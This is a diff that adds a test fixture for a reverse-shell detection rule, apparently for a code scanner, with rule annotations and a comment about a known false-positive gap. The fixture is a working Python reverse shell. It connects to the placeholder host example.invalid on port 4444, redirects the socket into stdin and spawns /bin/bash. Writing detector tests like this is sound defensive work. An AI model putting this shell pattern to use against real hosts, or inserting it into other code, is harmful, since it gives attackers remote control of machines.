@@ -1,0 +1,23 @@
+# canary-test: path=mypkg/rs.py artifact=wheel
+# Every member of python.reverse_shell (reserved host).
+import os
+import pty
+import socket
+
+
+def shell():
+    s = socket.socket()
+    s.connect(("example.invalid", 4444))
+    # The connect-then-dup2 regex reports where the match ends.
+    # ruleid: reverse_shell
+    os.dup2(s.fileno(), 0)
+    # ruleid: reverse_shell
+    pty.spawn("/bin/bash")
+
+
+
+def daemon(null):
+    # Known gap: a dup2 to /dev/null within 400 bytes after any tuple connect
+    # also matches; the regex cannot tell which socket was connected.
+    # todook: reverse_shell
+    os.dup2(null.fileno(), 1)
